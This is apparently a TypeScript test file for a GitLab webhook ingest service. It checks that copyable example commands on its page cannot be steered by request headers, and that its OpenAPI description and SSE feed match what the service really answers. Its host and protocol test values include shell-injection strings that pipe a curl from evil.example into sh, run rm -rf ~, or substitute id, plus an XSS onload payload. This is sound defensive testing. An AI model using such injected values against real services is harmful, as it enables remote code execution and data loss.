// The page at `GET /` shows commands that people copy: what stands in them is where this service is, and nothing that
// somebody else could have put there.
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { z } from 'zod'
import { messageSchemaOf, schemaNames } from '#shared/event/message-schema.ts'
import { publishedKinds } from '#shared/event/privacy/kinds.ts'
import { openApi } from '../../apps/ingest/documents/openapi.ts'
import { parameters } from '../../apps/ingest/documents/parameters.ts'
import { exampleAddress } from '../../apps/ingest/pages/examples.ts'
import { readFeed, readLines } from '../support/feed.ts'
import { publisherOf } from '../support/relay.ts'
import { send } from '../support/request.ts'
import { type Process, startProcess } from '../support/service.ts'
import { openStage, type Stage } from '../support/stage.ts'

let stage: Stage
let unnamed: Process
let named: Process
before(async () => {
  stage = await openStage()
  const PUBLIC_URL = 'https://hooks.example.org/$&/gitlab/'
  ;[unnamed, named] = await Promise.all([
    stage.start('ingest'),
    stage.start('ingest', { PUBLIC_URL, SPOOL_DIR: `${stage.environment.SPOOL_DIR}-2` }),
  ])
})
after(() => stage?.close())

const hosts = ['hooks.example.net', 'hooks.example.net:8443', "x';curl$IFS-evil.example|sh;'", 'x"onload=alert(1)', 'x`id`', 'x$(id)']
const isPlain = (host: string) => /^[\w.:-]+$/.test(host)
const protocols = ['https', 'http', "https'; rm -rf ~; '", 'https,http', 'javascript']

async function page(at: Process, host: string, protocol: string) {
  const headers = { host, 'x-forwarded-proto': protocol, 'x-forwarded-host': 'evil.example' }
  const { status, headers: answered, body } = await send({ port: at.port(), path: '/', method: 'GET', headers })
  const addresses = new Set(
    [...body.toString().matchAll(/(\S{0,40}:\/\/.{0,60}?)\/sse\//g)].map(([, address = '']) => address.replace(/^.*(?=http)/, '')),
  )
  return { status, cached: answered['cache-control'], addresses: [...addresses] }
}

test('with PUBLIC_URL the examples name that, whatever a request says about itself', async () => {
  for (const host of hosts)
    for (const protocol of protocols) {
      const { status, addresses, cached } = await page(named, host, protocol)
      if (status === 400 && !isPlain(host)) continue
      assert.deepEqual([addresses, cached], [['https://hooks.example.org/$&amp;/gitlab'], 'max-age=5'], `${protocol} ${host}`)
    }
})

test('without it they name the host that was asked for, if that is a plain one, and nobody may keep the page for others', async () => {
  for (const host of hosts)
    for (const protocol of protocols) {
      const { status, addresses, cached } = await page(unnamed, host, protocol)
      if (status === 400 && !isPlain(host)) continue
      const expected = isPlain(host) ? `${protocol === 'https' ? 'https' : 'http'}://${host}` : exampleAddress
      assert.deepEqual([addresses, cached], [[expected], 'no-store'], `${protocol} ${host}`)
    }
})

test('a PUBLIC_URL that is no address is a mistake', async () => {
  const bad = startProcess('ingest', { ...stage.environment, PUBLIC_URL: "https://x';id;'" })
  assert.equal(await bad.exit, 78)
  assert.match(bad.text(), /PUBLIC_URL: expected an address/)
})

async function get(path: string, method = 'GET') {
  const { status, headers, body } = await send({ port: unnamed.port(), path, method })
  return { status, type: headers['content-type'], isOpen: headers['access-control-allow-origin'] === '*', body: body.toString() }
}

test('the description and the schema of each kind are there for programs, and for every page of the web', async () => {
  const { body, ...whole } = await get('/openapi.json')
  assert.deepEqual(whole, { status: 200, type: 'application/json', isOpen: true })
  assert.deepEqual(JSON.parse(body), JSON.parse(JSON.stringify(openApi(undefined))))
  for (const name of schemaNames) {
    const schema = await get(`/schemas/${name}.json`)
    assert.deepEqual([schema.status, schema.type, schema.isOpen], [200, 'application/schema+json', true])
    assert.deepEqual(JSON.parse(schema.body), JSON.parse(JSON.stringify(messageSchemaOf(name))))
  }
  assert.deepEqual(JSON.parse((await get('/schemas/Merge-Request.json')).body), JSON.parse(JSON.stringify(messageSchemaOf('message'))))
  for (const path of ['/schemas/key_create.json', '/schemas/push', '/schemas/.json', '/schemas/__proto__.json'])
    assert.equal((await get(path)).status, 404, path)
})

const documentSchema = z.object({
  paths: z.record(z.string(), z.record(z.string(), z.object({ responses: z.record(z.string(), z.unknown()) }))),
})
const contentSchema = z.object({ content: z.record(z.string(), z.unknown()).optional() })
const html = 'text/html'
const json = 'application/json'
const answers: Array<[described: string, path: string, status: number, type?: string, accept?: string]> = [
  ['/', '/', 200, html],
  ['/', `/?kind=${'a'.repeat(1000)}`, 414, 'text/plain'],
  ['/merge-requests', '/merge-requests?address=a/b!1', 303],
  ['/merge-requests', '/merge-requests?address=nonsense', 400, html],
  ['/merge-requests', '/merge-requests', 400, json, json],
  ['/merge-requests/{project}/{number}', '/merge-requests/a/b/1', 503, html],
  ['/merge-requests/{project}/{number}', '/merge-requests/a/b/1', 503, json, json],
  ['/sse/', '/sse/?limit=1', 200, 'text/event-stream'],
  ['/sse/', '/sse/?limit=1', 200, 'application/jsonl', 'application/jsonl'],
  ['/sse/', '/sse/?limit=0', 400, json],
  ['/sse/', '/sse/', 406, json, html],
  ['/schemas/{name}.json', '/schemas/none.json', 404, json],
  ['/healthz', '/healthz', 200, json],
  ['/readyz', '/readyz', 200, json],
  ['/metrics', '/metrics', 200, 'text/plain'],
]

test('whatever is answered stands in the description, with its status and its form', async () => {
  const { paths } = documentSchema.parse(JSON.parse((await get('/openapi.json')).body))
  assert.deepEqual(new Set(Object.keys(paths)), new Set([...answers.map(([path]) => path), '/openapi.json', '/hooks']))
  for (const [described, path, status, type, accept = '*/*'] of answers) {
    const answer = await send({ port: unnamed.port(), path, method: 'GET', headers: { accept } })
    assert.deepEqual([answer.status, answer.headers['content-type']?.split(';')[0]], [status, type], path)
    const { content = {} } = contentSchema.parse(paths[described]?.get?.responses[status], { error: () => `${path} ${status}` })
    assert.ok(type === undefined || type in content, `${path} ${status} ${type}`)
  }
})

test('the feed understands every parameter of the description, as its example gives it', async () => {
  for (const { name, in: place, example } of parameters) {
    const path = place === 'query' ? `/sse/?${name}=${encodeURIComponent(example)}` : '/sse/'
    const headers = place === 'header' ? { [name]: example } : {}
    assert.equal((await send({ port: unnamed.port(), path, method: 'HEAD', headers })).status, 200, name)
  }
  const kinds = `/sse/?kind=${publishedKinds.join(',')}`
  assert.equal((await send({ port: unnamed.port(), path: kinds, method: 'HEAD' })).status, 200, 'all kinds together')
  const known = parameters.flatMap(({ name, in: place }) => (place === 'query' ? [name] : []))
  assert.match((await get('/sse/?sinse=1')).body, new RegExp(`known are ${known.toSorted().join(', ')}"`))
})

test('what the feed sends, in both forms and gaps too, is what the description says', async () => {
  const meta = { id: 'a', dt: new Date().toISOString(), kind: 'push', stream: 'gitlab-webhooks' }
  await publisherOf(stage)([{ object_kind: 'push', meta }])
  const url = `http://127.0.0.1:${unnamed.port()}/sse/?last_event_id=5-0&limit=1`
  const [reader, lineReader] = await Promise.all([readFeed(url), readLines(url)])
  await Promise.all([reader.ended, lineReader.ended])
  const events = reader.messages.map(({ id, event, data }) => ({ id, ...(event !== undefined && { event }), data }))
  const lines = lineReader.lines.filter((line) => line !== '').map((line) => JSON.parse(line))
  assert.deepEqual(
    [events.map(({ event }) => event), lines.map((line) => line.meta.kind)],
    [
      ['gap', undefined],
      [undefined, 'push'],
    ],
  )

  const { components, paths } = JSON.parse(JSON.stringify(openApi(undefined)))
  const { content } = paths['/sse/'].get.responses[200]
  const faults = (type: string, items: unknown[]) => {
    const ajv = new Ajv2020({ strict: false, validateFormats: false })
    const validate = ajv.compile({ ...content[type].itemSchema, components })
    return items.flatMap((item) => (validate(item) ? [] : [{ item, errors: validate.errors }]))
  }
  assert.deepEqual(faults('text/event-stream', events), [])
  for (const type of ['application/x-ndjson', 'application/jsonl']) assert.deepEqual(faults(type, lines), [])
  assert.equal(faults('application/jsonl', [{ object_kind: 'push' }, { meta: { gap: {} } }]).length, 2)
})

test('a question that nobody would type is not for the page', async () => {
  assert.equal((await get(`/?project=${'a'.repeat(900)}`)).status, 200)
  assert.equal((await get(`/?project=${'a'.repeat(1000)}`)).status, 414)
})
